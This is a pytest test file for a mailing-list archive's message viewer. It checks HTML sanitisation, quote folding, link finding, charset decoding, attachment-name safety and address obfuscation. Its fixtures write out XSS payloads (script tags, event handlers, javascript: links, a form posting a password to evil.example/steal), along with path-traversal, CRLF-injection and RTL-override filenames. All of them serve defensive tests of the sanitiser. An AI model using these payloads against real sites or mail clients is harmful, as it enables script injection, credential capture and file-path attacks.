"""What a reader of the archive sees of a message: hostile mail made harmless, quotes
folded, links, charsets, attachments with safe names, and every corpus message shown."""

from __future__ import annotations

import email
import email.policy
import re
from email.message import EmailMessage
from html.parser import HTMLParser
from itertools import groupby
from pathlib import Path
from urllib.parse import quote

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from listserv import html_text, view
from tests.helpers import CORPUS

MESSAGES = sorted((CORPUS / "messages").glob("**/*.eml"))
ADDRESS = re.compile(r"[\w.+-]+@[\w-]+(\.[\w-]+)+")


class Elements(HTMLParser):
    """The elements and attributes a browser would build from the page's HTML."""

    def __init__(self, markup: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.text: list[str] = []
        self.feed(markup)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.text.append(data)

    def named(self, tag: str) -> list[dict[str, str | None]]:
        return [attrs for name, attrs in self.tags if name == tag]


def mail(body: str = "Hello.\n", subtype: str = "plain", **params: str) -> EmailMessage:
    msg = EmailMessage()
    msg["From"] = "alice@example.org"
    msg["Subject"] = "test"
    msg.set_content(body, subtype=subtype)
    for key, value in params.items():
        msg.set_param(key, value)
    return msg


def raw_mail(content_type: str, body: bytes, *, encoding: str = "8bit") -> bytes:
    return (b"From: alice@example.org\r\nSubject: test\r\nMIME-Version: 1.0\r\n"
            b"Content-Type: " + content_type.encode() + b"\r\n"
            b"Content-Transfer-Encoding: " + encoding.encode() + b"\r\n\r\n" + body)


def with_files(*files: tuple[bytes, str, str, str]) -> bytes:
    """A text post with attachments: (data, maintype, subtype, filename) each."""
    msg = mail("See the files.\n")
    for data, maintype, subtype, filename in files:
        msg.add_attachment(data, maintype=maintype, subtype=subtype, filename=filename)
    return msg.as_bytes()


# --- hostile content --------------------------------------------------------------------

def test_markup_in_a_text_part_is_shown_as_text():
    body = "<script>alert(1)</script> and <img src=x onerror=alert(2)>\n"
    raw = mail(body).as_bytes()
    page = Elements(view.view(raw).text_html)
    assert not page.named("script") and not page.named("img")
    assert "<script>alert(1)</script>" in "".join(page.text)
    assert "<script>alert(1)</script>" in view.plain_text(raw)


HOSTILE_HTML = """<html><head><title>Hidden title</title>
<style>body { background: url(http://tracker.example/bg.png) }</style>
<script>alert("head")</script></head>
<body onload="alert('body')">
<p onclick="alert('p')">Hello <b onmouseover="alert('b')">reader</b>.</p>
<script>alert("body")</script>
<a href="javascript:alert('link')">a javascript link</a>
<a href="JaVaScRiPt:alert('mixed')">mixed case</a>
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">a data link</a>
<a href="/unsubscribe/abc">a relative link</a>
<a href="https://example.org/page" target="_blank">the web page</a>
<a href="mailto:bob@example.org">mail bob</a>
<img src="http://tracker.example/x.png" alt="tracking pixel">
<img src="https://example.org/logo.png" onerror="alert('img')">
<img src="cid:logo@example.org" alt="inline logo">
<img src="data:image/png;base64,iVBORw0KGgo=" alt="data image">
<iframe src="https://evil.example/frame">no frames</iframe>
<object data="https://evil.example/flash.swf">no object</object>
<embed src="https://evil.example/embed.swf">
<form action="https://evil.example/steal" method="post"><input name="password">
<button formaction="https://evil.example/">Send</button></form>
<svg onload="alert('svg')"><circle r="1"/></svg>
<div style="position:fixed;top:0">styled</div>
</body></html>"""


@pytest.fixture(scope="module")
def hostile() -> view.View:
    return view.view(mail(HOSTILE_HTML, "html").as_bytes())


def test_html_only_mail_keeps_its_words(hostile):
    words = "".join(Elements(hostile.text_html).text)
    assert "Hello" in words and "reader" in words and "the web page" in words


@pytest.mark.parametrize("tag", ["script", "style", "iframe", "object", "embed", "form",
                                 "input", "button", "svg", "title", "link", "meta"])
def test_html_only_mail_loses_dangerous_elements(hostile, tag):
    assert not Elements(hostile.text_html).named(tag)


def test_html_only_mail_runs_no_script(hostile):
    assert "alert" not in hostile.text_html


def test_html_only_mail_has_no_event_handlers_or_styles(hostile):
    for _, attrs in Elements(hostile.text_html).tags:
        assert not [a for a in attrs if a.startswith("on") or a in {"style", "formaction"}]


def test_html_only_mail_links_only_to_the_web_and_to_mail(hostile):
    links = Elements(hostile.text_html).named("a")
    hrefs = [a["href"] for a in links if "href" in a]
    assert hrefs == ["https://example.org/page", "mailto:bob@example.org"]
    for link in links:
        assert set(link["rel"].split()) >= {"nofollow", "noopener", "noreferrer"}
        assert "target" not in link


def test_html_only_mail_loads_no_image(hostile):
    images = Elements(hostile.text_html).named("img")
    assert images, "the images' alt texts stay for the reader"
    assert all("src" not in img for img in images)
    assert {img.get("alt") for img in images} >= {"tracking pixel", "inline logo"}
    assert "tracker.example" not in hostile.text_html
    assert "data:" not in hostile.text_html


def test_html_only_mail_is_searchable_as_text():
    plain = view.plain_text(mail(HOSTILE_HTML, "html").as_bytes())
    assert "Hello reader." in plain
    links = re.compile(r" ?<(https?|mailto):[^<>\s]+>")  # a link keeps its address
    assert "<" not in links.sub("", plain) and "alert" not in plain
    assert "Hidden title" not in plain


def test_inline_images_of_an_html_part_are_offered_not_loaded():
    msg = mail("<p>Logo: <img src='cid:logo@example.org'></p>", "html")
    msg.add_related(b"\x89PNG fake", maintype="image", subtype="png", cid="<logo@example.org>")
    shown = view.view(msg.as_bytes())
    assert all("src" not in img for img in Elements(shown.text_html).named("img"))
    assert [a.content_type for a in shown.attachments] == ["image/png"]


# --- plain text: quotes, links, format=flowed -------------------------------------------

REPLY = """On Monday, Bob wrote:
> first quoted line
> second quoted line
>> a quote in the quote

My answer, in between.

> one more
Thanks.
"""


def test_quoted_runs_are_folded_and_new_text_is_not():
    html = view.view(mail(REPLY).as_bytes()).text_html
    folds = re.findall(r'<details class="quote"><summary>(.*?)</summary>(.*?)</details>',
                       html, re.DOTALL)
    assert [summary for summary, _ in folds] == ["… 3 quoted lines", "… 1 quoted line"]
    assert "second quoted line" in folds[0][1] and "one more" in folds[1][1]
    outside = re.sub(r"<details.*?</details>", "", html, flags=re.DOTALL)
    assert "My answer, in between." in outside and "Thanks." in outside
    assert "quoted line" not in outside


def test_urls_are_links_without_the_sentence_around_them():
    body = ("See https://example.org/a?b=1&c=2. Or (http://example.org/wiki/Foo_(bar)) "
            "or [mailto:bob@example.org]. Then https://example.org/x))).\n")
    links = Elements(view.view(mail(body).as_bytes()).text_html).named("a")
    assert [a["href"] for a in links] == [
        "https://example.org/a?b=1&c=2", "http://example.org/wiki/Foo_(bar)",
        "mailto:bob@example.org", "https://example.org/x"]
    assert all(a["rel"] == "nofollow noopener" for a in links)


@settings(max_examples=500, deadline=None)
@given(st.lists(st.sampled_from([
    "http", "https", "HTTPS", "httpſ", "mailto", "MailTo", "maİlto", "xhttp", ":", "://", "/",
    "a", "é", " ", "\n", ".", "(", ")", "<", "'"]), max_size=30).map("".join))
def test_links_are_found_wherever_a_scan_at_every_position_finds_them(text):
    """The link finder tries the URL pattern only before a colon; it must find exactly
    what trying it at every position finds, overlaps, Unicode case and all."""
    assert [m.span() for m in view._urls(text)] == [m.span() for m in view._URL.finditer(text)]


def _folded_line_by_line(text: str) -> str:
    """What _fold_quotes is meant to do, said the slow, obvious way: group the lines."""
    if not text.strip():
        return ""
    runs = groupby(text.strip("\n").split("\n"), key=lambda line: line.startswith(">"))
    html = []
    for quoted, lines in runs:
        lines = list(lines)
        pre = '<pre class="body">\n' + view._linked("\n".join(lines)) + "</pre>"
        count = f"{len(lines)} quoted line" + ("s" if len(lines) != 1 else "")
        html.append(f'<details class="quote"><summary>… {count}</summary>{pre}</details>'
                    if quoted else pre)
    return "".join(html)


@settings(max_examples=500, deadline=None)
@given(st.lists(st.sampled_from(["> ", ">", "\n", "\n\n", " ", "a", "a>b", "\r", "http://x"]),
                max_size=30).map("".join))
def test_each_run_of_quoted_lines_is_folded_once(text):
    assert view._fold_quotes(text) == _folded_line_by_line(text)


@pytest.mark.parametrize("text", [
    "javascript:alert(document.cookie)", "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox", "file:///etc/passwd", "ftp://example.org/file",
    'http://example.org/"onmouseover="alert(1)'])
def test_only_http_and_mail_urls_become_links(text):
    shown = view.view(mail(f"Try {text} now.\n").as_bytes())
    page = Elements(shown.text_html)
    assert all(a["href"].startswith(("http://", "https://", "mailto:")) for a in page.named("a"))
    assert all(set(a) == {"href", "rel"} for a in page.named("a"))
    assert text in "".join(page.text)


def test_format_flowed_lines_are_joined():
    body = "This paragraph was \r\nsent flowed.\r\n> and so was \r\n> this quote.\r\n-- \r\nsig\r\n"
    raw = raw_mail("text/plain; charset=utf-8; format=flowed", body.encode())
    plain = view.plain_text(raw)
    assert "This paragraph was sent flowed." in plain
    assert "> and so was this quote." in plain
    assert "-- \nsig" in plain


def test_format_flowed_delsp_removes_the_soft_break_space():
    raw = raw_mail("text/plain; charset=utf-8; format=flowed; delsp=yes",
                   "Donau­dampf \r\nschiff\r\n".replace("­", "").encode())
    assert view.plain_text(raw).startswith("Donaudampfschiff")


def test_flowed_mail_from_a_client_is_joined():
    raw = (CORPUS / "messages/clients/opera-maven-dev-037.eml").read_bytes()
    assert "sha1: e97ea744e0f0f7c025e294e58b148a178b3d24da" in view.plain_text(raw)


# --- which part is the body -------------------------------------------------------------

def test_alternative_shows_the_text_version():
    msg = mail("The plain version.\n")
    msg.add_alternative("<p>The <b>HTML</b> version.</p>", subtype="html")
    shown = view.view(msg.as_bytes())
    assert "The plain version." in shown.text_html and "HTML" not in shown.text_html
    assert view.plain_text(msg.as_bytes()).strip() == "The plain version."
    assert shown.attachments == ()


def test_alternative_with_a_blank_text_version_shows_the_html():
    msg = mail("\n  \n")
    msg.add_alternative("<p>Only here.</p>", subtype="html")
    shown = view.view(msg.as_bytes())
    assert "Only here." in shown.text_html and "Only here." in view.plain_text(msg.as_bytes())


def test_a_forward_alone_shows_the_forwarded_text():
    raw = (CORPUS / "messages/cpython/msg_46.eml").read_bytes()
    shown = view.view(raw)
    assert "Testing email forwarding with Groupwise" in view.plain_text(raw)
    assert [a.filename for a in shown.attachments] == ["attachment-1.eml"]


# --- charsets ---------------------------------------------------------------------------

@pytest.mark.parametrize(("name", "expected"), [
    ("mailman/bad_email.eml", "РЕКЛАМНАЯ РАССЫЛКА"),  # koi8-r, 8bit
    ("clients/microsoft-maven-dev-270.eml", "é"),  # utf-8, quoted-printable
    ("clients/apple-maven-dev-144.eml", "’"),  # curly quotes
    ("cpython/msg_10.eml", "¡This is a Quoted Printable encoded message!"),
    ("mailman/html_non_ascii.eml", "HTML formát zprávy"),  # utf-8 HTML only
    ("clients/luasocket-maven-dev-083.eml", "Hervé"),  # utf-8 labelled iso-8859-1
])
def test_corpus_charsets_decode_to_the_right_characters(name, expected):
    raw = (CORPUS / "messages" / name).read_bytes()
    assert expected in view.plain_text(raw)
    assert expected in view.plain_text(raw)


@pytest.mark.parametrize(("charset", "data", "expected"), [
    ("us-ascii", "café".encode(), "café"),  # 8-bit UTF-8 under the default label
    ("utf-8", "café".encode("latin-1"), "café"),  # a lie: not UTF-8 at all
    ("x-no-such-charset", "naïve".encode(), "naïve"),
    ("iso-8859-1", "“quoted”".encode("cp1252"), "“quoted”"),  # Windows punctuation
    ("iso-8859-2", "Łódź".encode("iso-8859-2"), "Łódź"),
    ("shift_jis", "日本語".encode("shift_jis"), "日本語"),
    ("rot13", b"plain", "plain"),  # a codec, but not a charset
])
def test_declared_charsets_and_their_lies(charset, data, expected):
    raw = raw_mail(f"text/plain; charset={charset}", data)
    assert view.plain_text(raw) == expected and expected in view.view(raw).text_html


def test_transfer_encodings_are_decoded():
    text = "Grüße aus Köln\n"
    for encoding in ("base64", "quoted-printable"):
        msg = mail(text)
        msg.replace_header("Content-Transfer-Encoding", encoding)
        msg.set_content(text, cte=encoding)
        assert view.plain_text(msg.as_bytes()) == text


def test_base64_without_padding_is_decoded():
    raw = raw_mail("text/plain; charset=utf-8", b"SGVsbG8gd29ybGQ", encoding="base64")
    assert view.plain_text(raw) == "Hello world"


# --- attachments ------------------------------------------------------------------------

PDF = b"%PDF-1.4 fake\x00\xff binary"


def test_attachments_are_listed_with_their_decoded_bytes():
    raw = with_files((PDF, "application", "pdf", "report.pdf"),
                     (b"GIF89a", "image", "gif", "photo.gif"))
    shown = view.view(raw)
    assert [(a.index, a.filename, a.content_type, a.size) for a in shown.attachments] == [
        (0, "report.pdf", "application/pdf", len(PDF)), (1, "photo.gif", "image/gif", 6)]
    assert view.attachment(raw, 0) == (shown.attachments[0], PDF)
    assert view.attachment(raw, 2) is None and view.attachment(raw, -1) is None
    assert "See the files." in view.plain_text(raw) and "PDF" not in view.plain_text(raw)


def test_a_text_file_attached_is_an_attachment_not_the_body():
    raw = with_files((b"secret words in a file\n", "text", "plain", "notes.txt"))
    shown = view.view(raw)
    assert [a.filename for a in shown.attachments] == ["notes.txt"]
    assert "secret words" not in view.plain_text(raw)
    assert "secret words" not in view.plain_text(raw)


@pytest.mark.parametrize("name", [
    "../../etc/passwd", "..\\..\\windows\\win.ini", "/etc/passwd", "passwd\r\nX-Evil: 1",
    "evil\u202egpj.exe", "\x00\x1b[31mpasswd", ".hidden", "..", " "])
def test_attachment_names_are_safe_to_save(name):
    # RFC 2231 carries any character, CR and LF included.
    raw = with_files((PDF, "application", "octet-stream", "placeholder")).replace(
        b'filename="placeholder"', f"filename*=utf-8''{quote(name)}".encode())
    shown = view.view(raw)
    (attachment,) = shown.attachments
    filename = attachment.filename
    assert filename and "/" not in filename and "\\" not in filename
    assert not filename.startswith(".")
    assert all(ch.isprintable() for ch in filename)
    assert "\u202e" not in filename


def test_a_missing_name_is_numbered():
    msg = mail("Two files.\n")
    msg.add_attachment(PDF, maintype="application", subtype="pdf")
    msg.add_attachment(mail("Inner.\n"))
    names = [a.filename for a in view.view(msg.as_bytes()).attachments]
    assert names == ["attachment-1", "attachment-2.eml"]


def test_encoded_filenames_are_decoded():
    msg = mail("Files.\n")
    msg.add_attachment(PDF, maintype="application", subtype="pdf", filename="résumé.pdf")
    msg.add_attachment(PDF, maintype="application", subtype="pdf",
                       filename=("utf-8", "", "naïve.pdf"))
    raw = msg.as_bytes()  # both names as RFC 2231 filename*=utf-8''...
    rfc2047 = with_files((PDF, "application", "pdf", "x.pdf")).replace(
        b'filename="x.pdf"', b'filename="=?iso-8859-1?q?r=E9sum=E9_2.pdf?="')
    eight_bit = with_files((PDF, "application", "pdf", "x.pdf")).replace(
        b'filename="x.pdf"', 'filename="Übersicht.pdf"'.encode())
    names = [a.filename for r in (raw, rfc2047, eight_bit) for a in view.view(r).attachments]
    assert names == ["résumé.pdf", "naïve.pdf", "résumé 2.pdf", "Übersicht.pdf"]


def test_a_thousand_nested_multiparts_do_not_sink_the_page():
    depth = 1000
    nest = b""
    for level in range(depth):
        nest += f'Content-Type: multipart/mixed; boundary="b{level}"\r\n\r\n--b{level}\r\n'.encode()
    nest += b"Content-Type: text/plain\r\n\r\ndeep down\r\n"
    for level in reversed(range(depth)):
        nest += f"--b{level}--\r\n".encode()
    raw = (b"From: alice@example.org\r\nSubject: deep\r\nMIME-Version: 1.0\r\n"
           b'Content-Type: multipart/mixed; boundary="outer"\r\n\r\n--outer\r\n' + nest
           + b"--outer\r\nContent-Type: application/pdf\r\n"
           b'Content-Disposition: attachment; filename="beside.pdf"\r\n\r\n%PDF\r\n'
           b"--outer--\r\n")
    shown = view.view(raw)
    assert "deep down" in view.plain_text(raw)  # past the depth limit the rest is shown raw
    assert "Subject: deep" not in view.plain_text(raw)  # but the message is still read as MIME
    assert [a.filename for a in shown.attachments] == ["beside.pdf"]
    assert view.attachment(raw, 0) == (shown.attachments[0], b"%PDF")


def test_a_multipart_of_thousands_of_parts_shows_them_all():
    parts = b"".join(b"--b\r\nContent-Type: text/plain\r\n\r\npart %d\r\n" % n
                     for n in range(3000))
    raw = raw_mail("multipart/mixed; boundary=b", parts + b"--b--\r\n")
    shown = view.view(raw).text_html
    assert "part 0<" in shown and "part 2999" in shown  # the last ones, raw


# --- every corpus message ---------------------------------------------------------------

def stdlib_body(raw: bytes) -> str:
    """What the stdlib finds as the body: an independent opinion on "has a body"."""
    try:
        part = email.message_from_bytes(raw, policy=email.policy.default).get_body(
            ("plain", "html"))
        return part.get_content() if part is not None else ""
    except Exception:  # noqa: BLE001  the stdlib gives up on some corpus mail
        return ""


@pytest.mark.parametrize("path", MESSAGES, ids=lambda p: str(p.relative_to(CORPUS)))
def test_every_corpus_message_is_shown(path: Path):
    raw = path.read_bytes()
    shown = view.view(raw)
    if html_text.to_text(stdlib_body(raw)).strip():
        assert view.plain_text(raw).strip() and shown.text_html.strip()
    for item in shown.attachments:
        found = view.attachment(raw, item.index)
        assert found is not None and found[0] == item and len(found[1]) == item.size
    assert "<script" not in shown.text_html.lower()


@pytest.mark.parametrize(("raw", "words"), [
    (b"", ""),
    (b"\x00\xff" * 100, ""),
    (b"Subject: only a header\r\n", ""),
    (b"Content-Type: multipart/mixed; boundary=never\r\n\r\nthe boundary never comes\r\n",
     "the boundary never comes"),
    (b"Content-Type: multipart/mixed\r\n\r\nno boundary at all\r\n", "no boundary at all"),
    (b"Content-Type: text/plain; charset=\"\r\n\r\nbroken parameter\r\n", "broken parameter"),
    (b"Content-Type: text/plain\r\nContent-Transfer-Encoding: base64\r\n\r\n!!!\r\n", ""),
    (b"From nobody Mon Jan  1 00:00:00 2024\nSubject: mbox\n\nafter a From line\n",
     "after a From line"),
    (b"Content-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\nno header block here\r\n--b--",
     "no header block here"),
])
def test_broken_mail_is_shown_not_raised(raw, words):
    assert words in view.view(raw).text_html and words in view.plain_text(raw)
    assert words in view.plain_text(raw)


# --- plain_text for the search index ----------------------------------------------------

def test_plain_text_is_capped():
    raw = mail("word " * 100_000).as_bytes()
    text = view.plain_text(raw, limit=1000)
    assert len(text) <= 1000 and text.startswith("word word")


def test_plain_text_cut_inside_a_character_stays_valid():
    raw = raw_mail("text/plain; charset=utf-8", "ж".encode() * 5000)
    text = view.plain_text(raw, limit=1001)
    assert set(text) == {"ж"}


def test_an_html_only_post_is_searched_by_what_a_browser_shows():
    raw = raw_mail("text/html; charset=utf-8",
                   b'<html><head><style>p {}</style></head><body><p>first</p>'
                   b'<input value="a>swordfish"><p>second<br>third</p></body></html>')
    assert view.plain_text(raw) == "first\n\nsecond\nthird\n"  # never an attribute


# --- addresses on public pages ----------------------------------------------------------

@pytest.mark.parametrize("address", ["alice@example.org", "a.b+list@mail.example.co.uk",
                                     '"odd@local"@example.org'])
def test_obfuscated_addresses_cannot_be_harvested(address):
    shown = view.obfuscate(address)
    local, _, domain = address.rpartition("@")
    assert shown.startswith(local)  # the reader still recognises the sender
    assert domain not in shown and not ADDRESS.fullmatch(shown)
    assert ADDRESS.search(shown) is None or domain not in ADDRESS.search(shown).group()


def test_obfuscate_leaves_what_is_no_address():
    assert view.obfuscate("list owner") == "list owner"
